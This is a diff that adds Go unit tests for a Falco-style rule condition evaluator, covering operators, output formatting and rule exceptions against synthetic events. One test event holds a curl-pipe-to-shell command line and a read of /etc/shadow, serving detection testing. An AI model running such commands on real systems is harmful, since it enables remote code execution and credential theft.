@@ -0,0 +1,216 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+Copyright (C) 2026 The Falco Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package cmd
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCondEvaluatorEval(t *testing.T) {
+	t.Parallel()
+	evt := condEvent{
+		"evt.type":      "openat",
+		"proc.name":     "bash",
+		"proc.cmdline":  "bash -c 'curl http://example.com | sh'",
+		"proc.aname":    []interface{}{"sshd", "systemd"},
+		"proc.aname[2]": "systemd",
+		"fd.name":       "/etc/shadow",
+		"fd.num":        3,
+		"fd.types":      []interface{}{"ipv4", "file"},
+		"user.name":     "Root",
+		"proc.exe":      "/usr/bin/bash",
+		"proc.env":      "aGVsbG8=",
+	}
+	tests := map[string]bool{
+		"evt.type = openat":                   true,
+		"evt.type in (open, openat, openat2)": true,
+		"evt.type != openat":                  false,
+		"proc.name = sh":                      false,
+		"not proc.name = sh":                  true,
+		"proc.pname = sshd":                   false,
+		"not proc.pname = sshd":               true,
+		"proc.pname exists":                   false,
+		"proc.name exists":                    true,
+		"fd.num >= 0 and fd.num < 4":          true,
+		"fd.num = 3.0":                        true,
+		"fd.num > 10 or fd.num <= 2":          false,
+		"proc.cmdline contains \"| sh\"":      true,
+		"proc.cmdline icontains EXAMPLE":      true,
+		"proc.cmdline startswith \"bash -c\"": true,
+		"proc.exe endswith /bash":             true,
+		"proc.cmdline bcontains 6375726c":     true,
+		"fd.name glob /etc/*":                 true,
+		"fd.name glob /etc/s?adow":            true,
+		"fd.name glob /tmp/*":                 false,
+		"user.name iglob ro*":                 true,
+		"proc.cmdline regex \"bash -c .*\"":   true,
+		"proc.cmdline regex curl":             false,
+		"fd.name pmatch (/etc, /tmp)":         true,
+		"fd.name pmatch (/et)":                false,
+		"proc.aname = systemd":                true,
+		"proc.aname[2] = systemd":             true,
+		"proc.aname in (sshd, systemd, init)": true,
+		"proc.aname in (sshd)":                true,
+		"proc.aname in (init)":                false,
+		"fd.types intersects (ipv4, ipv6)":    true,
+		"fd.types intersects (unix)":          false,
+		"fd.types in (ipv4, file, unix)":      true,
+		"fd.types in (ipv4)":                  false,
+		"tolower(user.name) = root":           true,
+		"toupper(proc.name) = BASH":           true,
+		"basename(proc.exe) = bash":           true,
+		"b64(proc.env) = hello":               true,
+		"len(proc.name) = 4":                  true,
+		"len(proc.aname) = 2":                 true,
+		"basename(proc.exe) = val(proc.name)": true,
+		"proc.name = val(proc.pname)":         false,
+		"(evt.type = open or evt.type = openat) and fd.name = /etc/shadow": true,
+	}
+	x := newCondEvaluator()
+	for cond, expected := range tests {
+		c, err := parseCondition(cond)
+		require.NoError(t, err, cond)
+		res, err := x.Eval(c, evt)
+		require.NoError(t, err, cond)
+		assert.Equal(t, expected, res, cond)
+	}
+
+	c, err := parseCondition("fd.num > abc")
+	require.NoError(t, err)
+	_, err = x.Eval(c, evt)
+	assert.Error(t, err)
+
+	c, err = parseCondition("spawned_process")
+	require.NoError(t, err)
+	_, err = x.Eval(c, evt)
+	assert.Error(t, err)
+}
+
+func TestCondEvaluatorFormatOutput(t *testing.T) {
+	t.Parallel()
+	evt := condEvent{
+		"proc.name":     "bash",
+		"proc.aname[2]": "sshd",
+		"proc.aname":    []interface{}{"sudo", "sshd"},
+		"fd.num":        3,
+	}
+	x := newCondEvaluator()
+	assert.Equal(t,
+		"Shell (proc=bash gparent=sshd ancestors=(sudo,sshd) fd=3 user=<NA> upper=BASH %notafield).",
+		x.FormatOutput("Shell (proc=%proc.name gparent=%proc.aname[2] ancestors=%proc.aname fd=%fd.num user=%user.name upper=%toupper(proc.name) %notafield).", evt))
+}
+
+func TestCondEvaluatorEvalRules(t *testing.T) {
+	t.Parallel()
+	files := testParseRulesFiles(t, `
+- list: shell_binaries
+  items: [bash, sh]
+
+- macro: spawned_process
+  condition: evt.type = execve
+
+- rule: shell_spawned
+  desc: test
+  condition: spawned_process and proc.name in (shell_binaries)
+  output: shell %proc.name
+  priority: NOTICE
+  tags: [shell]
+
+- rule: audit
+  desc: test
+  condition: ka.verb = create
+  output: audit %ka.verb
+  priority: INFO
+  source: k8s_audit
+`)
+	rs := newRuleset()
+	require.NoError(t, rs.Add(files[0]))
+	rules, err := compileRules(rs)
+	require.NoError(t, err)
+
+	alerts, err := newCondEvaluator().EvalRules(rules, []condEvent{
+		{"evt.type": "execve", "proc.name": "sh"},
+		{"evt.type": "execve", "proc.name": "ls"},
+		{"evt.source": "k8s_audit", "ka.verb": "create"},
+	})
+	require.NoError(t, err)
+	require.Len(t, alerts, 2)
+	assert.Equal(t, "shell_spawned", alerts[0].Rule)
+	assert.Equal(t, "shell sh", alerts[0].Output)
+	assert.Equal(t, "NOTICE", alerts[0].Priority)
+	assert.Equal(t, "syscall", alerts[0].Source)
+	assert.Equal(t, []string{"shell"}, alerts[0].Tags)
+	assert.Equal(t, "audit", alerts[1].Rule)
+	assert.Equal(t, "k8s_audit", alerts[1].Source)
+}
+
+func TestCondEvaluatorEvalRulesExceptions(t *testing.T) {
+	t.Parallel()
+	files := testParseRulesFiles(t, `
+- list: trusted_parents
+  items: [cron]
+
+- rule: shell_spawned
+  desc: test
+  condition: evt.type = execve and proc.name in (bash, sh)
+  output: shell %proc.name
+  priority: NOTICE
+  exceptions:
+    - name: parents
+      fields: proc.pname
+      values: [trusted_parents, sshd]
+    - name: proc_cmdline
+      fields: [proc.name, proc.cmdline]
+      comps: [in, startswith]
+      values:
+        - [[sh, bash], "sh -c backup"]
+`, `
+- rule: shell_spawned
+  exceptions:
+    - name: tuned_container_image_repository
+      fields: [container.image.repository]
+      comps: [=]
+      values:
+        - [docker.io/library/nginx]
+  override:
+    exceptions: append
+`)
+	rs := newRuleset()
+	for _, f := range files {
+		require.NoError(t, rs.Add(f))
+	}
+	rules, err := compileRules(rs)
+	require.NoError(t, err)
+
+	alerts, err := newCondEvaluator().EvalRules(rules, []condEvent{
+		{"evt.type": "execve", "proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c ls", "container.image.repository": "docker.io/library/redis"},
+		{"evt.type": "execve", "proc.name": "sh", "proc.pname": "cron", "proc.cmdline": "sh -c ls"},
+		{"evt.type": "execve", "proc.name": "sh", "proc.pname": "sshd", "proc.cmdline": "sh -c ls"},
+		{"evt.type": "execve", "proc.name": "bash", "proc.pname": "init", "proc.cmdline": "sh -c backup now"},
+		{"evt.type": "execve", "proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c ls", "container.image.repository": "docker.io/library/nginx"},
+	})
+	require.NoError(t, err)
+	require.Len(t, alerts, 1)
+	assert.Equal(t, "shell sh", alerts[0].Output)
+
+	_, err = exceptionCondition(ruleException{Name: "bad", Fields: []interface{}{"proc.name"}, Comps: []interface{}{"in", "="}})
+	assert.Error(t, err)
+}